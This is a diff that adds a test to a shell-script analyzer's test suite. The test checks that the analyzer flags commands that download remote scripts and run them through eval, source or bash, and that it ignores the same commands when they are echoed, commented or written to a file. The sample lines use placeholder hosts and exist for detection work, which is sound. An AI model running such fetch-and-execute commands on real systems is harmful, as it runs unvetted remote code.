@@ -42,6 +42,27 @@ describe('the shell-script analyzer', () => {
     ]);
   });
 
+  it('reports a download run through substitution by a shell, eval or source, not one echoed, commented or written to a file', () => {
+    const script = [
+      '#!/bin/bash',
+      'eval "$(curl -fsSL https://x.example/env.sh)"',
+      'source <(wget -qO- https://x.example/lib.sh)',
+      'bash <(curl -s https://x.example/i.sh) --yes',
+      'echo "Install: sh -c \\"$(curl -fsSL https://get.example.com)\\""',
+      '# sh -c "$(curl -fsSL https://get.example.com)"',
+      'cat > README.txt <<EOF',
+      'sh -c "$(curl -fsSL https://get.example.com)"',
+      'EOF',
+      'diff <(curl -s https://x.example/a) local.txt',
+    ].join('\n');
+    const { findings } = analyzeShellText(`${script}\n`, 'setup.sh');
+    expect(findings.map((f) => [f.ruleId, f.location.startLine])).toEqual([
+      ['sh.curl-pipe-shell', 2],
+      ['sh.curl-pipe-shell', 3],
+      ['sh.curl-pipe-shell', 4],
+    ]);
+  });
+
   it('takes no file that is not a shell script', () => {
     expect(analyzeShellText('curl -s https://x.example/a.sh | sh\n', 'notes.txt').findings).toEqual([]);
   });
